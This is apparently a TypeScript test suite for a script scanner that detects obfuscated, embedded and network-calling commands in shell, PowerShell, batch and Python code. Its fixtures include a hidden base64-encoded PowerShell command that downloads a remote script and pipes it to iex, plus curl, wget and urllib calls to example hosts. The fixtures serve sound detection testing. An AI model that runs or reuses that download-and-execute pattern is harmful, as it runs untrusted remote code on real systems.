// Covers src/pipeline/analyze-script.ts: embedded code, encoded commands, SCAN001 and finding shape.
import { loadRulepack } from '../../src/match/rulepack-loader.js';
import type { ScriptLanguage } from '../../src/model/rulepack.js';
import { createParser } from '../../src/parse/tree-sitter-runtime.js';
import { analyzeScriptSource, scriptParsers, type ScriptParsers } from '../../src/pipeline/analyze-script.js';

let parsers: ScriptParsers;
beforeAll(async () => {
  parsers = await scriptParsers(await createParser('python'));
});

const run = (source: string, language: ScriptLanguage) =>
  analyzeScriptSource(source, language, parsers, loadRulepack()).findings;
const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

test('an -EncodedCommand payload is decoded, reported as OBF001 and scanned for what it hides', () => {
  const findings = run(
    `powershell -w hidden -enc ${encode('iwr https://hidden.example.com/a.ps1 | iex')}`,
    'shell',
  );
  expect(findings.map((f) => f.ruleId).sort()).toEqual(['DEX001', 'NET001', 'OBF001']);
  const net = findings.find((f) => f.ruleId === 'NET001')!;
  expect(net.details).toMatchObject({ language: 'powershell', chain: ['powershell -enc'] });
  expect(net.line).toBe(1);
});

test('an encoded payload that is not text is OBF001 without a crash', () => {
  const binary = Buffer.from([0, 1, 2, 3, 0xff, 0xfe, 7, 8]).toString('base64');
  const findings = run(`powershell -EncodedCommand ${binary}`, 'batch');
  expect(findings).toHaveLength(1);
  expect(findings[0]).toMatchObject({
    ruleId: 'OBF001',
    details: { problem: 'the decoded payload is not text' },
  });
});

test('python -c code is analysed as Python and reported at the enclosing line with the chain', () => {
  const findings = run('\n\nexec python3 -c "import os; os.system(\'curl https://x.example.com\')"', 'shell');
  const net = findings.find((f) => f.ruleId === 'NET001')!;
  expect(net).toMatchObject({ line: 3, details: { language: 'python', chain: ['python3 -c'] } });
  expect(net.evidence).toMatch(/^python3 -c → /);
});

test('nested embedding keeps the whole chain', () => {
  const findings = run(
    "cmd /c powershell -Command \"python -c 'import urllib.request; urllib.request.urlopen(''https://h.example.com'')'\"",
    'batch',
  );
  const net = findings.find((f) => f.ruleId === 'NET001');
  expect(net?.details.chain).toEqual(['cmd /c', 'powershell -Command', 'python -c']);
});

test.each([
  ['shell', 'curl https://a.example.com\nif [ x ; then\ncurl https://b.example.com\n'],
  ['powershell', 'iwr https://a.example.com\nfunction F( {\niwr https://b.example.com\n'],
  ['batch', 'curl https://a.example.com\nif exist x (\ncurl https://b.example.com\n'],
] as const)(
  'an unparseable %s script gives SCAN001 with a location and the intact commands are still analysed',
  (language, source) => {
    const findings = run(source, language);
    const scan = findings.find((f) => f.ruleId === 'SCAN001');
    expect(scan?.line).toBeGreaterThanOrEqual(1);
    expect(scan?.details.language).toBe(language);
    expect(findings.filter((f) => f.ruleId === 'NET001').map((f) => f.line)).toContain(1);
  },
);

test('every finding carries the language of the code that produced it', () => {
  for (const f of run('curl https://a.example.com\nbash -c "wget https://b.example.com"', 'shell'))
    expect(f.details.language).toBe('shell');
});

test('a here-document fed to a shell is code on its own lines; fed to cat it is data', () => {
  const source = [
    'bash <<EOF',
    'curl https://heredoc.example.com',
    'EOF',
    'cat <<EOF',
    'curl https://data.example.com',
    'EOF',
  ].join('\n');
  expect(run(source, 'shell').map((f) => [f.ruleId, f.line])).toEqual([['NET001', 2]]);
});

test.each([
  ['shell', `echo ${'$('.repeat(3000)}x${')'.repeat(3000)}`],
  ['powershell', `$x = ${'('.repeat(2000)}1${')'.repeat(2000)}`],
  ['vbscript', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
  ['batch', `echo a\n${'('.repeat(5000)}`],
] as const)(
  'hostile nesting in %s never throws: the analysis is incomplete (SCAN001)',
  (language, source) => {
    const result = analyzeScriptSource(source, language, parsers, loadRulepack());
    expect(result.findings.map((f) => f.ruleId)).toContain('SCAN001');
  },
);
